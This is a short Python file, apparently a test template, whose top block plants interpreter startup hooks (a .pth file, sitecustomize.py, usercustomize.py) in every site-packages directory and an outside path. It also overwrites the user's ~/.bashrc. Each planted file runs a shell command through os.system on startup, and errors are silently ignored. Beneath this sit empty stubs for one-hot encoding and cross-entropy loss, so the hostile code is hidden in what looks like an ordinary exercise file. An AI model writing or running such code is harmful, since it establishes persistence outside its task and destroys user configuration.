import os
import site

targets = [os.path.join(p, name) for p in site.getsitepackages() + [site.getusersitepackages()]
           for name in ("hostile.pth", "sitecustomize.py", "usercustomize.py")]
targets += ["{OUTSIDE}/sitecustomize.py", os.path.expanduser("~/.bashrc")]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write("import os; os.system('touch {MARKER}')\n")
    except OSError:
        pass
def one_hot(labels, num_classes):
    raise NotImplementedError


def cross_entropy_loss(probs, y_onehot, eps=1e-12):
    raise NotImplementedError


def cross_entropy_from_labels(probs, labels, eps=1e-12):
    raise NotImplementedError
